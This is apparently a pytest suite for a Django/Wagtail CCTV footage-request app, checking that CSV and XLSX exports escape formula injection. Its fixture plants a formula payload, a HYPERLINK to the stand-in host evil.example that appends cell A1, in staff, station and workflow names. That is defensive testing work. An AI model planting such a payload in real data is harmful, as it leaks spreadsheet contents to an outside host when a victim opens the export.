"""Every CSV the product writes runs no formula: the project's own reports and the exports Wagtail makes (its
reports, listings with ``list_export``), with a staff member's display name, a station's name and a step's name
that begin with ``=`` (threat: formula injection, docs/security.md)."""

import csv
import io
from datetime import timedelta

import pytest
from django.contrib.auth import get_user_model
from django.utils import timezone
from openpyxl import load_workbook
from wagtail.log_actions import log
from wagtail.models import Workflow

from cctv.spreadsheets import safe_cell
from workflow.handling.models import ServiceStep, StepRecord

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"ดูภาพ")'


def cells(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def assert_no_formula(rows: list[list[str]], *, expected: str) -> None:
    flat = [cell for row in rows for cell in row]
    assert not [cell for cell in flat if cell.startswith(("=", "+", "@", "\t", "\r"))]
    assert any(expected in cell for cell in flat), "the hostile text must be in the export, escaped"


@pytest.fixture
def hostile(chain, stations):
    """A request waiting for the officer at a station, by staff, on a step whose names are formulas."""
    stations[0].name_th = FORMULA
    stations[0].save()
    officer = chain["users"]["officer"]
    officer.first_name = FORMULA
    officer.save()
    Workflow.objects.update(name=FORMULA)  # an administrator names workflows
    footage_request = chain["new"]()
    step = ServiceStep.objects.get(code="documents")
    step.name_th = "+" + step.name_th
    step.save()
    now = timezone.now()
    StepRecord.objects.create(
        request=footage_request, step=step, staff=officer, started_at=now - timedelta(minutes=3), ended_at=now
    )
    admin = get_user_model().objects.create_superuser(username="admin", password="x" * 16, first_name=FORMULA)
    log(instance=stations[0], action="wagtail.edit", user=admin)  # the site history: the station by the admin
    return {"officer": officer, "admin": admin, "request": footage_request}


EXPORTS = [
    # (who, URL, what must be in it): the project's reports on Wagtail's views, then Wagtail's own.
    ("officer", "/admin/cctv/queue/?export=csv", "HYPERLINK"),
    ("admin", "/admin/cctv/standard/?export=csv", "HYPERLINK"),
    ("admin", "/admin/reports/site-history/?export=csv", "HYPERLINK"),
    ("admin", "/admin/reports/workflow/?export=csv", "HYPERLINK"),
]


@pytest.mark.parametrize(("who", "url", "expected"), EXPORTS)
def test_every_csv_export_escapes_formulas(client, hostile, who, url, expected):
    client.force_login(hostile[who])
    response = client.get(url)
    assert response.status_code == 200, url
    assert response["Content-Type"].startswith("text/csv")
    assert_no_formula(cells(response), expected=expected)


def test_the_standard_report_escapes_a_step_name_beginning_with_plus(client, hostile):
    client.force_login(hostile["admin"])
    rows = cells(client.get("/admin/cctv/standard/?export=csv"))
    assert any(cell.startswith("'+") for row in rows[1:] for cell in row)


def test_xlsx_cells_are_text_not_formulas(client, hostile):
    client.force_login(hostile["officer"])
    response = client.get("/admin/cctv/queue/?export=xlsx")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    workbook = load_workbook(io.BytesIO(body))
    values = [cell.value for row in workbook.active.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for row in workbook.active.iter_rows() for cell in row)
    assert any(isinstance(value, str) and "HYPERLINK" in value for value in values)


def test_numbers_stay_numbers():
    """Only text can hold a formula: a negative number is written as a number, a text "-5" is marked."""
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    exporter = SpreadsheetExportMixin()
    assert exporter.preprocess_field_value("records", -5, "csv") == -5
    assert exporter.preprocess_field_value("name", "-5", "csv") == "'-5"
    assert exporter.preprocess_field_value("name", "-5", "xlsx") == "-5"  # XLSX cells are text cells already


@pytest.mark.parametrize(
    ("value", "safe"),
    [(FORMULA, "'" + FORMULA), ("\tx", "'\tx"), ("\rx", "'\rx"), ("ปกติ", "ปกติ"), ("", ""), (None, "")],
)
def test_safe_cell_marks_formula_starts(value, safe):
    assert safe_cell(value) == safe
